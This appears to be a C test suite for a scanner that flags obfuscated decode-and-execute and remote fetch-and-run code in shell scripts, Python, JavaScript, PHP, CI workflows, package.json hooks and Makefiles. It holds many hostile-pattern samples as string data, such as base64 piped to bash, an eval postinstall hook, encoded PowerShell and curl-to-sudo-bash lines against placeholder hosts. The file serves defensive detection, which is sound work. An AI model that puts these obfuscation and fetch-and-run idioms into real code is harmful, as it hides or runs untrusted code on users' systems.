/* SPDX-License-Identifier: Apache-2.0 */
#include "tests/evidence/content/marked.h"

#include <string.h>

typedef struct {
  const char *name;
  const char *path;
  const char *text;
  const char *expected;
} Sample;

static const Sample attacks[] = {
  { "variable", "x.sh",
    "x=$(echo aGk= | base64 -d)\n"
    "eval \"$x\"\n",
    "2: base64 -> eval\n" },
  { "here-string", "x.sh", "bash <<< \"$(echo aGk= | base64 --decode)\"\n", "1: base64 -> bash\n" },
  { "cipher-of-a-fixture", "x.sh",
    "sed \"r\\n\" tests/files/bad-3-corrupt_lzma2.xz | tr \"\\t \\-_\" \" \\t_\\-\" | xz -d 2>/dev/null | sh\n",
    "1: xz -> sh\n" },
  { "openssl", "x.sh", "echo abc | openssl enc -d -aes-256-cbc -a -pass pass:x | bash\n",
    "1: openssl -> bash\n" },
  { "carved-out-of-a-fixture", "x.sh",
    "xz -dc $srcdir/tests/files/$p|eval $i|LC_ALL=C sed \"s/\\(.\\)/\\1\\n/g\"|LC_ALL=C awk 'x' | xz -dc --single-stream | (head -c +1024 >/dev/null && head -c +2048) | /bin/sh\n",
    "1: head -> /bin/sh\n" },
  { "escapes", "x.sh", "printf '\\x63\\x75\\x72\\x6c\\x20\\x61\\x62\\x63\\x64' | sh\n",
    "1: printf -> sh\n" },
  { "file", "x.sh",
    "base64 -d payload.txt > /tmp/.x; chmod +x /tmp/.x\n"
    "/tmp/.x &\n",
    "2: base64 -> /tmp/.x\n" },
  { "source", "x.sh", "source <(base64 -d < x)\n", "1: base64 -> source\n" },
  { "continued-lines", "x.sh",
    "echo aGk= | \\\n"
    "  base64 \\\n"
    "  -d | \\\n"
    "  bash\n",
    "4: base64 -> bash\n" },
  { "python-one-liner", "x.sh", "python3 -c \"import base64;exec(base64.b64decode('aGk='))\"\n",
    "1: b64decode -> exec\n" },
  { "function-constructor", "x.js", "new Function(atob('aGk='))();\n", "1: atob -> Function\n" },
  { "javascript-variable", "x.js",
    "const p = Buffer.from('aGk=', 'base64').toString();\n"
    "eval(p);\n",
    "2: base64 -> eval\n" },
  { "command-in-a-string", "x.py",
    "import os\n"
    "os.system(\"echo aGk= | base64 -d | sh\")\n",
    "2: base64 -> sh\n" },
  { "program-in-a-variable", "x.sh", "B=base64\nS=bash\necho aGk= | $B -d | ${S}\n",
    "3: $B -> ${S}\n" },
  { "imported-as", "x.py", "from base64 import b64decode as d\nexec(d('aGk='))\n",
    "2: d -> exec\n" },
  { "assigned", "x.py", "e = exec\ne(base64.b64decode('aGk='))\n", "2: b64decode -> e\n" },
  { "marshal", "x.py", "exec(marshal.loads(data))\n", "1: loads -> exec\n" },
  { "bytes", "x.py", "exec(bytes([105,109,112]))\n", "1: bytes -> exec\n" },
  { "getattr", "x.py", "getattr(__builtins__, 'exec')(__import__('zlib').decompress(b'x'))\n",
    "1: decompress -> exec\n" },
  { "php", "x.php", "<?php eval(gzinflate(str_rot13(base64_decode('x')))); ?>\n",
    "1: gzinflate -> eval\n" },
  { "ruby", "x.rb", "eval [\"70757473\"].pack(\"H*\")\n", "1: H* -> eval\n" },
  { "perl-pack", "x.sh", "perl -e 'print pack \"H*\",\"6869\"' | sh\n", "1: pack -> sh\n" },
  { "command-in-a-variable", "x.sh",
    "gl_path_map='tr \"\\t \\-_\" \" \\t_\\-\"'\n"
    "eval $gl_path_map\n",
    "2: tr -> eval\n" },
  { "child-process", "x.js",
    "require('child_process').execSync(Buffer.from(\"aGk=\", \"hex\").toString());\n",
    "1: hex -> execSync\n" },
  { "two-variables", "x.py",
    "data = base64.b64decode(P)\n"
    "code = zlib.decompress(data)\n"
    "exec(code)\n",
    "3: b64decode -> exec\n" },
  { "computed-name", "x.js",
    "globalThis['ev'+'al'](atob('x')); window[\"eval\"](String.fromCharCode(1,2));\n",
    "1: fromCharCode -> eval\n" },
  { "substitution-as-command", "x.sh", "$(echo Y3VybA== | base64 -d) http://x/\n",
    "1: base64 -> $()\n" },
  { "block-scalar", ".github/workflows/a.yml",
    "jobs:\n"
    "  a:\n"
    "    steps:\n"
    "      - run: |\n"
    "          echo aGk= |\n"
    "            base64 -d |\n"
    "            bash\n",
    "7: base64 -> bash\n" },
  { "backquotes", ".github/workflows/a.yml", "      - run: eval `echo aGk= | base64 -d`\n",
    "1: base64 -> eval\n" },
  { "certutil", "x.sh",
    "certutil -decode a.txt b.bat\n"
    "b.bat\n",
    "2: certutil -> b.bat\n" },
  { "lua", "x.lua", "loadstring(dec(\"x\"))() load(base64_decode(\"x\"))()\n",
    "1: base64_decode -> load\n" },
  { "xxd", "x.sh", "xxd -r -p <<< \"6869\" | bash -s -- a\n", "1: xxd -> bash\n" },
  { "char-codes", "x.py", "exec(''.join(chr(x) for x in [105,109,112,111]))\n",
    "1: chr -> exec\n" },
  { "cmake", "CMakeLists.txt", "execute_process(COMMAND sh -c \"echo aGk= | base64 -d | sh\")\n",
    "1: base64 -> sh\n" },
  { "encoded-command", "x.ps1", "powershell -nop -enc SQBFAFgAIABoAGUAbABs\n",
    "1: -EncodedCommand -> powershell\n" },
  { "c", "x.c", "int main () { return system (\"base64 -d x | sh\"); }\n", "1: base64 -> sh\n" },
  { "package-script", "package.json",
    "{ \"scripts\": { \"postinstall\": \"node -e \\\"eval(Buffer.from('Y29u','base64').toString())\\\"\" } }\n",
    "1: base64 -> eval\n" },
  { "reversed", "x.sh", "echo 'tac x' | rev | sh\n", "1: rev -> sh\n" },
  { "rot13", "x.sh", "echo 'uryyb' | tr 'A-Za-z' 'N-ZA-Mn-za-m' | bash\n", "1: tr -> bash\n" },
  { "file-far-below", "x.sh",
    "base64 -d payload > /tmp/.x\n"
    "echo $(date) (x)\n"
    "CC=gcc\n"
    "tar -x \\( y\n"
    "/tmp/.x &\n",
    "5: base64 -> /tmp/.x\n" },
  { "shell-by-another-name", "x.sh",
    "base64 -d payload > /tmp/x\n"
    "export S=sh\n"
    "echo x\n"
    "$S /tmp/x\n",
    "4: base64 -> $S\n" },
  { "many-files", "x.sh",
    "base64 -d a > f1; base64 -d a > f2; base64 -d a > f3; base64 -d a > f4\n"
    "base64 -d a > f5; base64 -d a > f6; base64 -d a > f7; base64 -d a > f8\n"
    "base64 -d a > f9\n"
    "echo x\n"
    "sh f9\n",
    "5: base64 -> sh\n" },
  { "substitution-over-rows", "x.sh",
    "eval $(\n"
    "  cat (x\n"
    "  base64 -d payload)\n"
    ")\n",
    "3: base64 -> eval\n" },
  { "call-of-the-row-above", "Makefile",
    "x:\n"
    "\tpython -c \"exec\n"
    "(base64.b64decode('aGk='))\"\n",
    "3: b64decode -> exec\n" },
  { "encoding-in-quotes", "Makefile", "x:\n\tphp -r 'eval(pack(\"H*\", $$x));'\n",
    "2: H* -> eval\n" },
  { "import-of-nothing", "x.py",
    "as d\n"
    "exec(b64decode('aGk='))\n",
    "2: b64decode -> exec\n" },
};

/*
 * What honest projects write that looks alike: a secret or an archive unpacked into a file or into
 * what only reads it.
 */
static const Sample honest[] = {
  { "workflow", ".github/workflows/a.yml",
    "      - run: echo \"$KEY\" | base64 -d > key.json\n"
    "      - run: echo \"${{ secrets.GPG }}\" | base64 --decode | gpg --import\n"
    "      - run: |\n"
    "          echo $X | base64 -d | tar xz\n"
    "          echo \"$KC\" | base64 -d > $HOME/.kube/config\n"
    "          export PW=$(echo $Y | base64 -d)\n"
    "          docker login -p \"$PW\"\n"
    "          bash ./deploy.sh\n"
    "          sh -c \"docker login -p $(echo $Y | base64 -d)\"\n"
    "          eval \"$(ssh-agent -s)\"\n"
    "          openssl aes-256-cbc -K $k -iv $iv -in id.enc -out id -d\n"
    "          curl -L x | gunzip > elm; chmod +x elm; ./elm\n"
    "          if [ \"$(echo $A | base64 -d)\" = x ]; then sh x.sh; fi\n"
    "          echo x | tr a-z A-Z | sh\n"
    "          x=$(echo $Y | base64 -d | jq -r .x)\n"
    "          echo \"token $x\"\n"
    "          cat a | base64 -d | python3 -m json.tool\n"
    "          cat a | base64 -d | python3 -c 'import json'\n"
    "          gzip -d < x | bash ./import.sh\n",
    "" },
  { "method", "x.js",
    "var m = /foo/.exec(Buffer.from(x, 'base64').toString());\nconst d = JSON.parse(atob(x)); exec(cmd, cb);\n",
    "" },
  { "regular-expression", "x.py", "m = re.compile(base64.b64decode(x))\n", "" },
  { "input", "x.py", "subprocess.run([\"openssl\"], input=base64.b64decode(x))\n", "" },
  { "other-value", "x.py", "data = base64.b64decode(x)\ndata = open(f)\nexec(data)\n", "" },
  { "quoted-name", "x.sh", "base64 -d > \"$HOME/a b.profile\"\nP=\"$HOME/a b.profile\"\n", "" },
  { "other-method", "x.py", "s.exec(base64.b64decode(y))\n", "" },
  /* A program that starts none holds prose. */
  { "prose-in-c", "x.c", "const char text[] = \"what hands data on (`base64 -d x | sh`)\";\n", "" },
  { "yaml-value", "k.yml", "password: $(echo $X | base64 -d)\n", "" },
};

static void
test_sample (gconstpointer data)
{
  const Sample *sample = data;

  assert_marked (hm_recognise_execution, HM_MARK_DECODED_AND_RUN, sample->path, sample->text,
                 sample->expected);
}

/* What stands at the end of a line of megabytes counts as much as at its beginning. */
static void
test_end_of_long_line (void)
{
  g_autofree char *payload = g_strnfill (1024 * 1024, 'A');
  g_autofree char *text =
      g_strconcat ("      - run: set +e; echo \"", payload, "\" | base64 -d | bash\n", NULL);

  assert_marked (hm_recognise_execution, HM_MARK_DECODED_AND_RUN, ".github/workflows/a.yml", text,
                 "1: base64 -> bash\n");
}

static void
test_remote (void)
{
  static const char text[] = "curl -sSf https://a.example/i.sh | sudo -E bash -\n"
                             "bash <(curl -s https://b.example/x)\n"
                             "eval \"$(wget -qO- https://c.example)\"\n"
                             "curl -o f.sh https://d.example/f.sh\nsh f.sh\n"
                             "curl https://e.example | tar xz\n"
                             "curl https://f.example | bash ./load.sh\n"
                             "# curl https://g.example | sh\n";

  assert_marked (hm_recognise_execution, HM_MARK_REMOTE_CODE_RUN, "x.sh", text,
                 "1: a.example\n2: b.example\n3: c.example\n5: d.example\n");
  assert_marked (hm_recognise_execution, HM_MARK_REMOTE_CODE_RUN, "README.md", text, "");
}

/* Deepest nesting, nothing but openers, NULs and bytes that are no UTF-8: no fault, and no wait. */
static void
test_hostile (void)
{
  static const char *const parts[] = {
    "eval $(base64 -d ",  "`eval ", "tr \"", "exec(", "x=$x;eval $x|",
    "base64 -d>f;sh f\n", "((((",   "'\"`",  "\\\n"
  };

  for (gsize i = 0; i < G_N_ELEMENTS (parts); i++) {
    g_autoptr (GString) text = g_string_new ("base64 -d exec eval chr( ");
    g_autofree char *lines = NULL;

    while (text->len < 256 * 1024)
      g_string_append (text, parts[i]);
    g_string_append_len (text, "\0\xff\xfe\0", 4);
    lines = marked (hm_recognise_execution, HM_MARK_DECODED_AND_RUN, "x.sh", text->str, text->len);
    g_assert_nonnull (lines);
    g_free (marked (hm_recognise_execution, HM_MARK_DECODED_AND_RUN, "x.py", text->str, text->len));
  }
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  for (gsize i = 0; i < G_N_ELEMENTS (attacks); i++) {
    g_autofree char *path = g_strconcat ("/execution/decoded/", attacks[i].name, NULL);

    g_test_add_data_func (path, &attacks[i], test_sample);
  }
  for (gsize i = 0; i < G_N_ELEMENTS (honest); i++) {
    g_autofree char *path = g_strconcat ("/execution/honest/", honest[i].name, NULL);

    g_test_add_data_func (path, &honest[i], test_sample);
  }
  g_test_add_func ("/execution/end-of-long-line", test_end_of_long_line);
  g_test_add_func ("/execution/remote", test_remote);
  g_test_add_func ("/execution/hostile", test_hostile);
  return g_test_run ();
}
